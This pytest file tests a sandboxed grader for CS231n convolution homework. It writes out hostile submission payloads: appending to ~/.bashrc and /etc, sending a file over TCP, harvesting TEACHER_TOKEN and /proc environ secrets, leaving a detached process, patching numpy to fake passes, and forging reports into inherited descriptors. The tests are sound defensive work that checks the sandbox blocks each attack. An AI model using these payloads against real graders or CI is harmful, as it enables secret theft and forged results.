"""Hostile submissions: `convscope check` on files that attack the teacher running it.

Each file below is a correct (or plainly wrong) CS231n implementation with an attack
added: write to the teacher's home and files, send a file over TCP, put the
environment's secrets into the report, leave a detached process running, patch numpy
so that wrong outputs would compare equal, forge a passing report into every
descriptor it inherited and exit. Each attack must fail and the verdict must be the
one the implementation deserves. With bubblewrap (CI installs it: the Makefile's
system-deps) the attacks meet the isolation; without it (a test below takes it away)
the verdict still cannot be forged, and the report says what is not isolated.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from test_grader_sandbox import ROOT, STUDENTS, running_with

pytestmark = pytest.mark.slow

SECRET = f"teacher-secret-{uuid.uuid4().hex}"


def bwrap_works() -> bool:
    from convcore.grader.isolation import isolation

    return isolation().isolated


needs_bwrap = pytest.mark.skipif(
    not bwrap_works() and os.environ.get("CI") != "true",  # in CI it is installed, and a missing one fails
    reason="bubblewrap (bwrap) is not installed or cannot make namespaces on this machine",
)


def submission(
    folder: Path, attack: str, body: str = "from seven_loops import conv_forward_naive, conv_backward_naive"
) -> Path:
    """A file in ``folder`` that runs ``attack`` at import and then defines the
    functions (by default the correct seven-loop ones, copied beside it)."""
    shutil.copy(STUDENTS / "seven_loops.py", folder / "seven_loops.py")
    path = folder / f"hostile_{uuid.uuid4().hex[:8]}.py"
    path.write_text(f"import os, sys, socket, subprocess\nimport numpy as np\n{attack}\n{body}\n", encoding="utf-8")
    return path


def check(path: Path, *args: str, env_extra: dict[str, str] | None = None, timeout: float = 180):
    env = dict(os.environ, PYTHONPATH=str(ROOT), TEACHER_TOKEN=SECRET, **(env_extra or {}))
    done = subprocess.run(
        [sys.executable, "-m", "convscope", "check", str(path), "--json", *args],
        cwd=path.parent,
        env=env,
        capture_output=True,
        text=True,
        timeout=timeout,
    )
    report = json.loads(done.stdout)
    return done, report


@needs_bwrap
def test_ci_has_bubblewrap_and_the_report_says_the_check_was_isolated(tmp_path):
    assert bwrap_works()
    done, report = check(submission(tmp_path, "pass"))
    assert done.returncode == 0, report
    assert report["isolation"].startswith("bubblewrap")


@needs_bwrap
def test_writes_outside_its_folder_fail_and_the_teachers_files_are_untouched(tmp_path):
    teacher = Path.home() / f".convscope-test-{uuid.uuid4().hex}"  # would appear in the real home
    notes = tmp_path / "teacher-notes.txt"
    notes.write_text("mine\n")
    system = Path("/etc/convscope-test")  # (writable to a root teacher)
    system.unlink(missing_ok=True)
    attack = f"""
for target in ({str(teacher)!r}, {str(notes)!r}, os.path.expanduser("~/.bashrc"), "/etc/convscope-test"):
    try:
        with open(target, "a") as f:
            f.write("pwned\\n")
    except OSError:
        pass
try:
    os.remove({str(notes)!r})
except OSError:
    pass
"""
    try:
        done, report = check(submission(tmp_path, attack))
        assert done.returncode == 0, report  # the functions are correct, and graded so
        assert not teacher.exists()
        assert notes.read_text() == "mine\n"
        assert not system.exists()
    finally:
        teacher.unlink(missing_ok=True)
        system.unlink(missing_ok=True)


@contextmanager
def loopback_listener() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP listener on 127.0.0.1: its port, and what it received."""
    received: list[bytes] = []
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            received.append(conn.recv(1000) or b"(connected)")
            conn.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        yield server.getsockname()[1], received
    finally:
        stop.set()
        thread.join(timeout=5)
        server.close()


@needs_bwrap
def test_the_network_is_out_of_reach(tmp_path):
    attack = """
try:
    s = socket.create_connection(("127.0.0.1", {port}), timeout=2)
    s.sendall(open(os.path.abspath(__file__), "rb").read())
except OSError:
    pass
"""
    with loopback_listener() as (port, received):
        done, report = check(submission(tmp_path, attack.format(port=port)))
        assert done.returncode == 0, report
        time.sleep(0.5)
        assert received == []
        assert report["attempts"] == [f"tried to connect to 127.0.0.1:{port}: blocked (no network)"]


@needs_bwrap
def test_the_environment_and_the_teachers_files_do_not_reach_the_report(tmp_path):
    secret_file = tmp_path.parent / f"secret-{uuid.uuid4().hex}.txt"  # a teacher's file beside the class folder
    secret_file.write_text(SECRET)
    body = f"""
def read_all():
    found = [os.environ.get("TEACHER_TOKEN", ""), repr(dict(os.environ))]
    paths = [{str(secret_file)!r}] + ["/proc/%s/environ" % pid for pid in os.listdir("/proc") if pid.isdigit()]
    for path in paths:
        try:
            found.append(open(path, "rb").read().decode(errors="replace"))
        except OSError:
            pass
    text = " ".join(found)
    at = text.find("teacher-secret-")
    return text[at:at + 60] if at >= 0 else "nothing found"  # (a message is cut at 300 characters)

def conv_forward_naive(x, w, b, conv_param):
    raise ValueError(read_all())

def conv_backward_naive(dout, cache):
    raise ValueError(read_all())
"""
    try:
        done, report = check(submission(tmp_path, "", body), "--gradescope", str(tmp_path / "results.json"))
        assert done.returncode == 2  # raises on every input
        assert SECRET not in done.stdout + done.stderr
        assert SECRET not in (tmp_path / "results.json").read_text()
    finally:
        secret_file.unlink(missing_ok=True)


@needs_bwrap
def test_the_folder_the_teacher_runs_the_check_from_is_not_readable(tmp_path):
    """The teacher's working folder (sys.path's first entry for `python -m`) may hold the
    answer key: a submission elsewhere cannot read it into its error message."""
    teacher = tmp_path / "teacher"
    teacher.mkdir()
    (teacher / "answers.txt").write_text(SECRET)
    students = tmp_path / "students"
    students.mkdir()
    path = submission(
        students,
        "",
        f"""
def conv_forward_naive(x, w, b, conv_param):
    try:
        found = open({str(teacher / "answers.txt")!r}).read()
    except OSError as exc:
        found = type(exc).__name__
    raise ValueError(found[:60])
""",
    )
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    done = subprocess.run(
        [sys.executable, "-m", "convscope", "check", str(path), "--json"],
        cwd=teacher,
        env=env,
        capture_output=True,
        text=True,
        timeout=180,
    )
    assert done.returncode == 2 and SECRET not in done.stdout, done.stdout[-500:]
    assert "FileNotFoundError" in done.stdout or "PermissionError" in done.stdout


@needs_bwrap
def test_a_detached_process_ends_with_the_check(tmp_path):
    marker = f"convscope-detached-{uuid.uuid4().hex}"
    attack = f"""
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", {marker!r}], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""
    done, report = check(submission(tmp_path, attack))
    assert done.returncode == 0, report
    deadline = time.monotonic() + 5
    while running_with(marker) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not running_with(marker)


WRONG_WITH_PATCHED_NUMPY = """
import numpy as np
zeros = np.zeros
np.abs = lambda a, *r, **k: zeros(np.shape(a))
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast_shapes(np.shape(a), np.shape(b)), dtype=bool)

def conv_forward_naive(x, w, b, conv_param):
    n, _, h, w_ = x.shape
    f, _, hh, ww = w.shape
    s, p = conv_param["stride"], conv_param["pad"]
    return zeros((n, f, 1 + (h + 2 * p - hh) // s, 1 + (w_ + 2 * p - ww) // s)), (x, w, b, conv_param)

def conv_backward_naive(dout, cache):
    x, w, b, _ = cache
    return zeros(x.shape), zeros(w.shape), zeros(b.shape)
"""


def test_patching_numpy_cannot_turn_wrong_outputs_into_a_pass(tmp_path):
    done, report = check(submission(tmp_path, "", WRONG_WITH_PATCHED_NUMPY))
    assert done.returncode == 1, report
    assert {name: o["status"] for name, o in report["outputs"].items()} == {
        "out": "fail",
        "dx": "fail",
        "dw": "fail",
        "db": "fail",
    }


FORGED = """
import json, struct
report = {"schema": "convscope-check/1", "target": "me", "convention": "cs231n", "status": "pass", "error": None,
          "seed": 0, "cases": 99, "outputs": {k: {"status": "pass", "checked": 99} for k in ("out", "dx", "dw", "db")}}
text = json.dumps(report).encode()
frames = [text, struct.pack(">Q", len(text)) + text]
for name in os.listdir("/proc/self/fd"):
    for data in frames:
        try:
            os.write(int(name), data)
        except OSError:
            pass
os._exit(0)
"""


@pytest.mark.parametrize("when", ["at import", "in the backward"])
def test_a_forged_report_in_every_inherited_descriptor_is_not_believed(tmp_path, when):
    if when == "at import":
        path = submission(tmp_path, FORGED)
    else:
        body = "from seven_loops import conv_forward_naive\n\ndef conv_backward_naive(dout, cache):\n" + "\n".join(
            "    " + line for line in FORGED.strip().splitlines()
        )
        path = submission(tmp_path, "", body)
    done, report = check(path)
    assert done.returncode == 2, report
    assert report["status"] == "error" and report["outputs"] == {}
    assert "exit code 0" in report["error"] or "grader's channel" in report["error"], report["error"]


def test_without_bubblewrap_the_report_says_what_is_not_isolated_and_the_verdict_still_holds(tmp_path, monkeypatch):
    from convcore.grader import isolation as isolation_module
    from convcore.grader import sandbox

    monkeypatch.setattr(sandbox, "isolation", lambda: isolation_module.Isolation(None, isolation_module.NOT_ISOLATED))
    monkeypatch.setenv("TEACHER_TOKEN", SECRET)
    good = sandbox.check_file(str(submission(tmp_path, "pass")), examples=10)
    assert good.passed and good.data["isolation"].startswith("not isolated")
    assert str(good).splitlines()[1].startswith("warning: not isolated: bubblewrap (bwrap) is not available")
    forged = sandbox.check_file(str(submission(tmp_path, FORGED)), examples=10)
    assert forged.exit_code == 2
    patched = sandbox.check_file(str(submission(tmp_path, "", WRONG_WITH_PATCHED_NUMPY)), examples=10)
    assert patched.exit_code == 1
    leaky = sandbox.check_file(
        str(
            submission(
                tmp_path, "", "def conv_forward_naive(x, w, b, p):\n    raise ValueError(repr(dict(os.environ)))\n"
            )
        ),
        examples=10,
    )
    assert SECRET not in leaky.to_json()  # (its environment is a few variables, even unisolated)
